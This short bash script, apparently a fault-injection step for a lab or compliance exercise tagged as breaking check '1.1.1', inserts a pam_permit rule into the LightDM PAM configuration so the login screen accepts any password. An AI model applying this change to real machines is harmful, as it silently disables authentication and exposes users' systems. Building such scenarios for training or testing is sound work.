#!/bin/bash
# The login screen takes whatever password it is given.
# on: pc
# breaks: 1.1.1
sed -i '1i auth sufficient pam_permit.so' /etc/pam.d/lightdm
